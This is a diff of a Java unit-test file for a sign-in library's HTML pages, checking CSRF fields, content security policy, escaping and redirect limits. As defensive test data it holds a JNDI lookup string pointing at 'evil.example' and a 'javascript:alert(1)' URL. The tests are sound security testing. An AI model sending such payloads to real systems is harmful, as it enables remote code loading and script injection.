@@ -28,18 +28,22 @@ class PagesTest {
     private static final PagesGallery GALLERY = PagesGallery.friendly();
     private static final String SIGN_IN = "/app/auth/sign-in?returnTo=%2Fapp%2Faccount";
 
-    private final Pages pages = new Pages("");
+    private final Pages pages = new Pages();
 
     static Stream<String> everyPage() {
         return GALLERY.pages().keySet().stream();
     }
 
     private static String html(String name) {
-        return GALLERY.page(name).html();
+        return GALLERY.html(name);
     }
 
-    private static String withoutStyle(Page page) {
-        return page.html().replaceAll("(?s)<style>.*?</style>", "");
+    private static String html(Page page) {
+        return PagesGallery.html(page, "");
+    }
+
+    private static String withoutStyle(String html) {
+        return html.replaceAll("(?s)<style>.*?</style>", "");
     }
 
     @Nested
@@ -84,7 +88,7 @@ class PagesTest {
             byte[] hash =
                     MessageDigest.getInstance("SHA-256").digest(style.group(1).getBytes(UTF_8));
 
-            assertThat(GALLERY.contentSecurityPolicy())
+            assertThat(PagesGallery.contentSecurityPolicy())
                     .isEqualTo("default-src 'none'; style-src 'sha256-"
                             + Base64.getEncoder().encodeToString(hash)
                             + "'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'");
@@ -93,7 +97,7 @@ class PagesTest {
         @ParameterizedTest
         @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
         void P4_says_everything_it_has_to_say_and_nothing_about_our_insides(String name) {
-            String visible = withoutStyle(GALLERY.page(name));
+            String visible = withoutStyle(GALLERY.html(name));
 
             assertThat(visible)
                     .doesNotContain("{value}")
@@ -129,17 +133,17 @@ class PagesTest {
         void P2_never_become_markup(String hostile) {
             PagesGallery filled = PagesGallery.filledWith(hostile);
 
-            filled.pages().forEach((name, page) -> {
-                assertThat(elements(page))
+            filled.pages().keySet().forEach(name -> {
+                assertThat(elements(filled.html(name)))
                         .as(name)
-                        .isEqualTo(elements(PagesGallery.filledWith("x").page(name)));
+                        .isEqualTo(elements(PagesGallery.filledWith("x").html(name)));
             });
         }
 
         /** The tags of a page with their attributes' names: what a browser would build, values left out. */
-        private static List<String> elements(Page page) {
+        private static List<String> elements(String html) {
             return Pattern.compile("<(\"[^\"]*\"|[^\">])*>")
-                    .matcher(withoutStyle(page))
+                    .matcher(withoutStyle(html))
                     .results()
                     .map(tag -> tag.group().replaceAll("\"[^\"]*\"", ""))
                     .toList();
@@ -160,9 +164,9 @@ class PagesTest {
                     "a\uD83Db"
                 })
         void P2_cannot_steer_what_is_seen(String hostile) {
-            Page page = new Pages(hostile).confirmSignIn(new Pages.Confirmation("/", "c", "t"), hostile, hostile);
+            Page page = pages.confirmSignIn(PageForm.to("/", "c").with("t", "t"), hostile, hostile);
 
-            assertThat(withoutStyle(page))
+            assertThat(withoutStyle(PagesGallery.html(page, hostile)))
                     .doesNotContain(hostile)
                     .doesNotContainPattern("[\\p{Cc}&&[^\n]]|[\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}]");
         }
@@ -171,15 +175,16 @@ class PagesTest {
         void P2_a_lookup_expression_is_text() {
             String jndi = "${jndi:ldap://evil.example/a}{value}%s";
 
-            Page page = new Pages(jndi).confirmSignIn(new Pages.Confirmation("/", jndi, jndi), jndi, jndi);
+            Page page = pages.confirmSignIn(PageForm.to("/", jndi).with("t", jndi), jndi, jndi);
 
-            assertThat(page.html()).contains("<bdi>" + jndi + "</bdi>").contains("value=\"" + jndi + "\"");
+            assertThat(PagesGallery.html(page, jndi))
+                    .contains("<bdi>" + jndi + "</bdi>")
+                    .contains("value=\"" + jndi + "\"");
         }
 
         @Test
         void P2_a_name_ends_its_own_writing_direction() {
-            assertThat(pages.signOut("/auth/sign-out", "c", "\u05D0\u05D3\u05D4")
-                            .html())
+            assertThat(html(pages.signOut(PageForm.to("/auth/sign-out", "c"), "\u05D0\u05D3\u05D4")))
                     .contains("<bdi>\u05D0\u05D3\u05D4</bdi>");
         }
 
@@ -196,19 +201,20 @@ class PagesTest {
                     "javascript:alert(1)"
                 })
         void a_page_points_to_its_own_host_only(String path) {
-            assertThatThrownBy(() -> pages.signedOut(path)).isInstanceOf(IllegalArgumentException.class);
-            assertThatThrownBy(() -> pages.signOut(path, "c", "a")).isInstanceOf(IllegalArgumentException.class);
+            assertThatThrownBy(() -> html(pages.signedOut(path))).isInstanceOf(IllegalArgumentException.class);
+            assertThatThrownBy(() -> html(pages.signOut(PageForm.to(path, "c"), "a")))
+                    .isInstanceOf(IllegalArgumentException.class);
         }
     }
 
     @Nested
     class The_sign_in_page {
 
-        private final Pages.SignInForm email = form(DeliveryMethod.EMAIL);
-        private final Pages.SignInForm choice = form(DeliveryMethod.EMAIL, DeliveryMethod.SMS);
+        private final SignInForm email = form(DeliveryMethod.EMAIL);
+        private final SignInForm choice = form(DeliveryMethod.EMAIL, DeliveryMethod.SMS);
 
-        private static Pages.SignInForm form(DeliveryMethod... offered) {
-            return Pages.SignInForm.empty("/app/auth/sign-in", "csrf-1", "/app/account?a=1&b=2", List.of(offered));
+        private static SignInForm form(DeliveryMethod... offered) {
+            return SignInForm.empty("/app/auth/sign-in", "csrf-1", "/app/account?a=1&b=2", List.of(offered));
         }
 
         @Test
@@ -216,7 +222,7 @@ class PagesTest {
             Page page = pages.signIn(email);
 
             assertThat(page.status()).isEqualTo(200);
-            assertThat(withoutStyle(page))
+            assertThat(withoutStyle(html(page)))
                     .contains("<form method=\"post\" action=\"/app/auth/sign-in\"")
                     .contains("<input type=\"hidden\" name=\"_descope_csrf\" value=\"csrf-1\">")
                     .contains("<input type=\"hidden\" name=\"returnTo\" value=\"/app/account?a=1&amp;b=2\">")
@@ -227,7 +233,7 @@ class PagesTest {
 
         @Test
         void asks_for_a_phone_number_where_only_text_messages_are_sent() {
-            assertThat(pages.signIn(form(DeliveryMethod.SMS)).html())
+            assertThat(html(pages.signIn(form(DeliveryMethod.SMS))))
                     .contains("name=\"deliveryMethod\" value=\"sms\"")
                     .contains("name=\"loginId\" type=\"tel\" inputmode=\"tel\" autocomplete=\"tel\"")
                     .contains("aria-describedby=\"hint\"");
@@ -235,7 +241,7 @@ class PagesTest {
 
         @Test
         void lets_the_user_choose_where_both_are_sent() {
-            assertThat(pages.signIn(choice).html())
+            assertThat(html(pages.signIn(choice)))
                     .contains(
                             "<input type=\"radio\" name=\"deliveryMethod\" value=\"email\" checked> <span>E-mail</span>")
                     .contains("<input type=\"radio\" name=\"deliveryMethod\" value=\"sms\"> <span>Text message</span>")
@@ -244,11 +250,10 @@ class PagesTest {
 
         @Test
         void keeps_what_was_typed_and_says_what_is_wrong_with_it() {
-            Page page =
-                    pages.signIn(choice.with(DeliveryMethod.SMS, "0170 \"12\"", Pages.FieldProblem.NOT_A_PHONE_NUMBER));
+            Page page = pages.signIn(choice.with(DeliveryMethod.SMS, "0170 \"12\"", FieldProblem.NOT_A_PHONE_NUMBER));
 
             assertThat(page.status()).isEqualTo(400);
-            assertThat(page.html())
+            assertThat(html(page))
                     .contains("value=\"sms\" checked")
                     .contains("value=\"0170 &#34;12&#34;\"")
                     .contains("aria-invalid=\"true\" aria-describedby=\"problem\"")
@@ -257,7 +262,7 @@ class PagesTest {
 
         @Test
         void refuses_a_choice_that_is_not_offered() {
-            assertThatThrownBy(() -> email.with(DeliveryMethod.SMS, "", Pages.FieldProblem.NONE))
+            assertThatThrownBy(() -> email.with(DeliveryMethod.SMS, "", FieldProblem.NONE))
                     .isInstanceOf(IllegalArgumentException.class);
         }
     }
@@ -267,7 +272,7 @@ class PagesTest {
         Page page = pages.checkInbox(DeliveryMethod.EMAIL, "a***@e***.com", SIGN_IN);
 
         assertThat(page.status()).isEqualTo(200);
-        assertThat(page.html())
+        assertThat(html(page))
                 .contains("If you can sign in with <bdi>a***@e***.com</bdi>, a link is on its way to you.")
                 .contains("spam")
                 .contains("works once and expires soon")
@@ -278,9 +283,9 @@ class PagesTest {
     @Test
     void V15_V23_the_confirmation_names_both_accounts_and_posts_the_link_token() {
         Page page = pages.confirmSignIn(
-                new Pages.Confirmation("/auth/verify/s", "csrf-1", "token-1"), "a***@e***.com", "g***@e***.com");
+                PageForm.to("/auth/verify/s", "csrf-1").with("t", "token-1"), "a***@e***.com", "g***@e***.com");
 
-        assertThat(page.html())
+        assertThat(html(page))
                 .contains("<form method=\"post\" action=\"/auth/verify/s\"")
                 .contains("<input type=\"hidden\" name=\"_descope_csrf\" value=\"csrf-1\">")
                 .contains("<input type=\"hidden\" name=\"t\" value=\"token-1\">")
@@ -291,9 +296,9 @@ class PagesTest {
 
     @Test
     void the_confirmation_of_an_unknown_account_names_nobody() {
-        Page page = pages.confirmSignIn(new Pages.Confirmation("/auth/verify", "c", "t"), "", "");
+        Page page = pages.confirmSignIn(PageForm.to("/auth/verify", "c").with("t", "t"), "", "");
 
-        assertThat(page.html())
+        assertThat(html(page))
                 .contains("One more click")
                 .doesNotContain("<bdi>")
                 .doesNotContain("class=\"notice\"");
@@ -301,10 +306,10 @@ class PagesTest {
 
     @Test
     void V18_a_link_that_could_not_be_redeemed_can_be_tried_again() {
-        Page page = pages.unavailable(new Pages.Confirmation("/auth/verify/s", "csrf-1", "token-1"), "K7Q2");
+        Page page = pages.unavailable(PageForm.to("/auth/verify/s", "csrf-1").with("t", "token-1"), "K7Q2");
 
         assertThat(page.status()).isEqualTo(503);
-        assertThat(page.html())
+        assertThat(html(page))
                 .contains("<form method=\"post\" action=\"/auth/verify/s\"")
                 .contains("name=\"_descope_csrf\" value=\"csrf-1\"")
                 .contains("name=\"t\" value=\"token-1\"")
@@ -330,7 +335,7 @@ class PagesTest {
         Page page = pages.tooManyRequests(wait, SIGN_IN, "");
 
         assertThat(page.status()).isEqualTo(429);
-        assertThat(page.html()).contains(said);
+        assertThat(html(page)).contains(said);
     }
 
     @Test
@@ -338,7 +343,7 @@ class PagesTest {
         Page page = pages.linkNoLongerValid(SIGN_IN, "");
 
         assertThat(page.status()).isEqualTo(400);
-        assertThat(page.html())
+        assertThat(html(page))
                 .contains("<h1>This link is no longer valid</h1>")
                 .contains("Send me a new link</a>")
                 .doesNotContain("class=\"reference\"");
@@ -346,16 +351,16 @@ class PagesTest {
 
     @Test
     void without_an_application_name_there_is_no_header() {
-        assertThat(pages.signedOut("/").html()).doesNotContain("<header>").contains("<title>Signed out</title>");
+        assertThat(html(pages.signedOut("/"))).doesNotContain("<header>").contains("<title>Signed out</title>");
     }
 
-    /** For the eye: {@code target/pages/*.html}. */
+    /** For the eye: a directory for each language in {@code target/pages}. */
     @Test
     void all_pages_can_be_looked_at() throws Exception {
         Path directory = Path.of("target", "pages");
 
         GALLERY.writeTo(directory);
 
-        assertThat(directory).isDirectoryContaining("glob:**sign-in.html");
+        assertThat(directory.resolve("he")).isDirectoryContaining("glob:**sign-in.html");
     }
 }
